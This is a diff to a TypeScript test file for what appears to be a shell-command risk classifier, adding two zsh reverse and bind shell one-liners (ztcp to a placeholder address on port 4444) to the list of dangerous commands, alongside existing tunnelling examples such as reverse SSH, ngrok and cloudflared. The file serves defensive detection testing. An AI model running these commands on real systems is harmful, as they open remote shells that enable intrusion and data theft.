@@ -31,6 +31,8 @@ const dangerous: Array<readonly [Expected, string]> = [
   ['ask', 'ssh -NR 0.0.0.0:2222:localhost:22 me@203.0.113.7'],
   ['ask', 'ngrok tcp 22'],
   ['ask', 'cloudflared tunnel --url http://localhost:8080'],
+  ['ask', "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.16 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
+  ['ask', "zsh -c 'zmodload zsh/net/tcp; ztcp -l 4444; ztcp -a $REPLY; zsh <&$REPLY >&$REPLY'"],
 ];
 
 const benign: Array<readonly [Expected, string]> = [
@@ -49,6 +51,7 @@ const benign: Array<readonly [Expected, string]> = [
   ['quiet', 'rclone copy build remote:site'],
   ['quiet', 'ssh -L 5432:db.internal:5432 bastion.example.com'],
   ['quiet', 'gh auth status'],
+  ['quiet', "zsh -c 'zmodload zsh/net/tcp; ztcp -c $fd'"],
 ];
 
 describe('exfiltration, more ways out', () => {
